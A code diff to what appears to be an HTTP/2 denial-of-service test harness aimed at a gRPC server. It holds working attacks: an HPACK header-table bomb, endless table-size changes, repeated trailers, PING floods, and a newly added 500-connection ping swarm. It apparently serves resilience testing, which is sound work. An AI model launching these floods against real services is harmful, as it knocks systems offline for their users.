@@ -86,7 +86,7 @@ def calls_of(pieces):
     return script
 
 
-@attack("calls whose headers name one entry of the table 12,000 times", over=True)
+@attack("calls whose headers name one entry of the table 12,000 times")
 def table_bomb(swarm, target):
     kept = h2.headers(1, h2.call_block(h2.INFER) + h2.field("a", "b" * 3900, kept=True))
     bomb = h2.headers(0, h2.call_block(h2.INFER) + h2.indexed(62) * 12000)
@@ -98,14 +98,14 @@ def table_bomb(swarm, target):
     swarm.add(CONNECTIONS, target.grpc, script)
 
 
-@attack("changes of the table's size without end", over=True)
+@attack("changes of the table's size without end")
 def table_sizes(swarm, target):
     sizes = h2.integer(0, 5, 0x20) + h2.integer(4096, 5, 0x20)
     swarm.add(CONNECTIONS, target.grpc,
               calls_of([h2.headers(0, sizes * 2000 + h2.call_block(h2.INFER)), h2.reset(0)]))
 
 
-@attack("trailers again and again on one call", over=True)
+@attack("trailers again and again on one call")
 def trailers(swarm, target):
     swarm.add(CONNECTIONS, target.grpc, repeated(h2.headers(1, h2.field("a", "b")), open_call()))
 
@@ -118,6 +118,16 @@ def ping(swarm, target):
 @attack("PING flood, answers unread", over=True, receive_bytes=4096, seconds=3)
 def ping_deaf(swarm, target):
     swarm.add(CONNECTIONS, target.grpc, repeated(h2.ping()), reads=False)
+
+
+@attack("500 connections with 20 pings a second each")
+def pings_spread(swarm, target):
+    def script(_peer):
+        yield h2.opening()
+        while True:
+            yield h2.ping() * 4
+            yield 0.2
+    swarm.add(500, target.grpc, script)
 
 
 @attack("flood of answers to pings that nobody sent", over=True)
